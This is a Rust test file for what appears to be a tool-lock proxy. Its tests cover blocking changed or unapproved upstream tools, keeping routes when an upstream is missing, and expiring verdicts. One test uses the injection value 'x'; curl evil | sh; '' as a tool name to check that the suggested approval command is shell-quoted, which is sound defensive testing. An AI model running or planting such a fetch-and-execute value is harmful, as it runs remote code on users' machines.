//! Verdicts on lists as texts, and what an upstream that is missing keeps of them.

use std::collections::{BTreeMap, HashMap};
use std::path::PathBuf;
use std::time::{Duration, Instant};

use lock::{Entry, Identity, Lock, Surface};
use serde_json::{Value, json};

use super::{Cause, Judged, Locked, Locks};
use crate::catalogue::{List, Merged, merge};
use crate::settings::{LockSettings, ServerSettings, Unlocked};
use crate::view::View;

fn locks(tools: Value) -> Locks {
    let surface = Surface::from_snapshot(&json!({ "tools": tools, "instructions": "Be kind." }));
    let entry = Entry::new(Identity::default(), None, &surface).expect("an entry");
    let pins = Lock { servers: BTreeMap::from([("a".to_owned(), entry.clone())]) }.pins("a").expect("the server");
    let upstreams = HashMap::from([("a".to_owned(), Locked { entry, pins, manifest: None })]);
    Locks { settings: LockSettings::new(PathBuf::new()), upstreams }
}

fn judged(locks: &Locks, upstream: &str, tools: &Value) -> (Vec<Value>, Judged) {
    let mut items = tools.as_array().cloned().unwrap_or_default();
    let text = json!({ "tools": tools }).to_string();
    let judged = locks.judge((upstream, List::Tools), &[&text], &mut items, (None, 0));
    (items, judged)
}

#[test]
fn a_cause_says_the_classes_of_what_changed() {
    let locks = locks(json!([
        { "name": "a", "description": "A", "inputSchema": { "type": "object" }, "annotations": { "readOnlyHint": true } },
        { "name": "b" },
    ]));
    let now = json!([
        { "name": "a", "description": "B", "inputSchema": { "type": "object", "required": ["x"],
            "properties": { "x": {} } }, "annotations": { "readOnlyHint": false } },
        { "name": "b", "_meta": { "x": 1 } },
        { "name": "c" },
    ]);
    let (items, judged) = judged(&locks, "a", &now);
    let classes = vec!["description", "required-parameter", "weakened-annotation"];
    assert_eq!(judged.blocked.get("a"), Some(&Cause::Changed(classes)));
    assert_eq!((judged.blocked.get("b"), judged.blocked.get("c")), (None, Some(&Cause::Unapproved)));
    assert_eq!((items.len(), judged.unknown.len()), (2, 1));
}

#[test]
fn an_upstream_that_is_not_locked_is_judged_as_the_settings_say() {
    let tools = json!([{ "name": "a" }]);
    let mut locks = locks(tools.clone());
    assert!(locks.judges("b"));
    assert_eq!(judged(&locks, "b", &tools).1.blocked.get("a"), Some(&Cause::Unlocked));
    assert_eq!(locks.refuses_instructions("b", None, 0), Some(Cause::Unlocked));
    locks.settings.unlocked = Unlocked::Pass;
    assert!(!locks.judges("b") && locks.judges("a"));
}

/// A list of one upstream, merged.
fn merged(locks: &Locks, tools: &Value) -> Merged {
    let (view, (items, judged)) =
        (View::new(ServerSettings::everything("default", Vec::new())), judged(locks, "a", tools));
    let mut merged = merge(List::Tools, &view, &[(0, "a", items)]);
    merged.withhold((List::Tools, &view), (0, "a"), judged);
    merged
}

#[test]
fn routes_that_are_kept_restore_nothing_that_is_withheld() {
    let locks = locks(json!([{ "name": "a" }, { "name": "b" }, { "name": "c" }]));
    let before = merged(&locks, &json!([{ "name": "a" }, { "name": "b" }, { "name": "c", "title": "C" }]));
    assert_eq!((before.routes.len(), before.withheld.len()), (2, 1));
    // Another upstream is missing; of this one, `a` changed, and `b` is gone.
    let mut after = merged(&locks, &json!([{ "name": "a", "title": "A" }, { "name": "c" }]));
    after.keep_routes(&before, |index| index == 1, None);
    assert!(!after.routes.contains_key("a") && !after.routes.contains_key("b") && after.routes.contains_key("c"));
    assert!(after.withheld.contains_key("a") && !after.withheld.contains_key("c"));
    // This one is missing: what was said of it before holds.
    let mut after = Merged::default();
    after.keep_routes(&before, |index| index == 0, None);
    assert!(after.routes.contains_key("a") && after.routes.contains_key("b"));
    assert!(after.withheld.contains_key("c") && !after.routes.contains_key("c"));
}

#[test]
fn an_error_names_what_the_lock_or_the_client_named_and_is_quoted_for_a_shell() {
    let error = |cause: &Cause, there: Option<&str>| cause.error(List::Tools, "a", ("x", there));
    let said = |error: &net::service::RpcError| format!("{} {}", error.message, json!(error.data));
    let quoted = error(&Cause::Unapproved, Some("x'; curl evil | sh; '"));
    assert!(quoted.message.ends_with(r"`proof lock --approve 'tool x'\''; curl evil | sh; '\'''`"), "{quoted:?}");
    let unnamed = said(&error(&Cause::Unapproved, None));
    assert!(unnamed.contains("proof lock --check") && !unnamed.contains("\"item\""), "{unnamed}");
    for cause in [Cause::Repeated, Cause::Unreadable, Cause::Gone, Cause::Unlocked, Cause::Spelling] {
        let said = said(&error(&cause, Some("x")));
        assert!(!said.contains("--approve"), "no approval helps: {cause:?}: {said}");
    }
}

#[test]
fn routes_of_a_judged_upstream_end_with_its_last_verdict() {
    let locks = locks(json!([{ "name": "a" }]));
    let mut before = merged(&locks, &json!([{ "name": "a" }]));
    let now = Instant::now();
    let later = now + Duration::from_mins(5);
    for (until, latest, stays) in
        [(later, None, true), (now, None, false), (later, Some(now), false), (now, Some(later), false)]
    {
        before.judged.get_mut(&0).expect("judged").until = Some(until);
        let mut after = Merged::default();
        after.keep_routes(&before, |index| index == 0, latest);
        assert_eq!(after.routes.contains_key("a"), stays);
        // Nor does it begin to count again with the next list.
        let mut next = Merged::default();
        next.keep_routes(&after, |index| index == 0, None);
        assert_eq!(next.routes.contains_key("a"), stays);
    }
}
